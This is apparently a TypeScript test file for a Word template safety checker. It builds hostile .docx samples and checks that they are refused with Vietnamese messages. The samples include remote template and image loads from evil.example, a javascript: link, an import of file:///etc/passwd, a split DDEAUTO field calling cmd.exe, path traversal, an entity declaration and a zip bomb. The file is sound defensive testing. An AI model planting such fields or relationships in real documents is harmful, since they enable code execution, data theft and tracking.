import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { UnreadableDocument } from '../conform/package/unreadable-document.ts';
import { changePart, wordTemplate } from '../testing/word-template.ts';
import { openOverride } from './safe-override.ts';

const plain = await wordTemplate(['{{commune.name}}']);
const relationships = 'word/_rels/document.xml.rels';
const withRelationship = (type: string, target: string) =>
  changePart(plain, relationships, xml =>
    xml.replace(
      '</Relationships>',
      `<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    ),
  );
const withField = (code: string) =>
  changePart(plain, 'word/document.xml', xml =>
    xml.replace('</w:p>', `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r></w:p>`),
  );

function refusalOf(bytes: Uint8Array): string {
  try {
    openOverride(bytes);
    return 'opened';
  } catch (error) {
    if (!(error instanceof UnreadableDocument)) throw error;
    return `${error.message} → ${error.hint}`;
  }
}

describe('openOverride', () => {
  it('opens a plain template, links to the web and page numbers included', () => {
    expect(refusalOf(plain)).toBe('opened');
    expect(refusalOf(withRelationship('hyperlink', 'https://hoso.example/'))).toBe('opened');
    expect(refusalOf(withField(' PAGE '))).toBe('opened');
    expect(refusalOf(withField(' HYPERLINK "https://hoso.example/link/import" '))).toBe('opened');
  });

  it('refuses what could run, load or hide something', () => {
    const parts = unzipSync(plain);
    const hostile = {
      macro: zipSync({ ...parts, 'word/vbaProject.bin': strToU8('x') }),
      macroType: changePart(plain, '[Content_Types].xml', xml =>
        xml.replace('wordprocessingml.document.main+xml', 'ms-word.document.macroEnabled.main+xml'),
      ),
      embedded: zipSync({ ...parts, 'word/embeddings/oleObject1.bin': strToU8('x') }),
      outside: zipSync({ ...parts, 'word/../../evil.xml': strToU8('x') }),
      template: withRelationship('attachedTemplate', 'http://evil.example/a.dotm'),
      image: withRelationship('image', 'http://evil.example/spy.png'),
      script: withRelationship('hyperlink', 'javascript:alert(1)'),
      imported: withRelationship('aFChunk', 'file:///etc/passwd'),
      field: withField(' INCLUDEPICTURE "http://evil.example/spy.png" '),
      splitField: withField(' DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe '),
      entity: changePart(plain, 'word/styles.xml', () => '<!DOCTYPE x [<!ENTITY a "aa">]><w:styles>&a;</w:styles>'),
      bomb: zipSync({ ...parts, 'word/media/image1.png': new Uint8Array(40_000_000) }),
      notWord: strToU8('x'),
    };
    expect(
      Object.fromEntries(Object.entries(hostile).map(([name, bytes]) => [name, refusalOf(bytes)])),
    ).toMatchInlineSnapshot(`
      {
        "bomb": "Tệp không an toàn để mở: phần «word/media/image1.png» giải nén ra quá lớn (40 MB). → Không mở tệp này; xin lại bản gốc từ nơi gửi.",
        "embedded": "Tệp mẫu không an toàn: tệp có đối tượng nhúng «word/embeddings/oleObject1.bin». → Bỏ phần đó trong Word rồi lưu lại, hoặc làm lại từ tệp khởi đầu: npx hoso document --starter MẪU.",
        "entity": "Tệp mẫu không an toàn: phần «word/styles.xml» có khai báo DOCTYPE. → Bỏ phần đó trong Word rồi lưu lại, hoặc làm lại từ tệp khởi đầu: npx hoso document --starter MẪU.",
        "field": "Tệp mẫu không an toàn: phần «word/document.xml» có trường INCLUDEPICTURE lấy nội dung từ nơi khác. → Bỏ phần đó trong Word rồi lưu lại, hoặc làm lại từ tệp khởi đầu: npx hoso document --starter MẪU.",
        "image": "Tệp mẫu không an toàn: tệp lấy nội dung từ nơi khác: «http://evil.example/spy.png» (image). → Bỏ phần đó trong Word rồi lưu lại, hoặc làm lại từ tệp khởi đầu: npx hoso document --starter MẪU.",
        "imported": "Tệp mẫu không an toàn: phần «word/_rels/document.xml.rels» gắn một tệp khác (aFChunk). → Bỏ phần đó trong Word rồi lưu lại, hoặc làm lại từ tệp khởi đầu: npx hoso document --starter MẪU.",
        "macro": "Tệp mẫu có macro. → Mở bằng Word, lưu lại theo dạng "Word Document (.docx)", là dạng không chứa macro.",
        "macroType": "Tệp mẫu có macro. → Mở bằng Word, lưu lại theo dạng "Word Document (.docx)", là dạng không chứa macro.",
        "notWord": "Tệp không phải dạng Word (.docx). → Chọn một tệp .docx; tệp PDF hoặc văn bản thuần không kiểm tra được.",
        "outside": "Tệp mẫu không an toàn: tên phần «word/../../evil.xml» trỏ ra ngoài tệp. → Bỏ phần đó trong Word rồi lưu lại, hoặc làm lại từ tệp khởi đầu: npx hoso document --starter MẪU.",
        "script": "Tệp mẫu không an toàn: tệp lấy nội dung từ nơi khác: «javascript:alert(1)» (hyperlink). → Bỏ phần đó trong Word rồi lưu lại, hoặc làm lại từ tệp khởi đầu: npx hoso document --starter MẪU.",
        "splitField": "Tệp mẫu không an toàn: phần «word/document.xml» có trường DDEAUTO lấy nội dung từ nơi khác. → Bỏ phần đó trong Word rồi lưu lại, hoặc làm lại từ tệp khởi đầu: npx hoso document --starter MẪU.",
        "template": "Tệp mẫu không an toàn: tệp lấy nội dung từ nơi khác: «http://evil.example/a.dotm» (attachedTemplate). → Bỏ phần đó trong Word rồi lưu lại, hoặc làm lại từ tệp khởi đầu: npx hoso document --starter MẪU.",
      }
    `);
  });
});
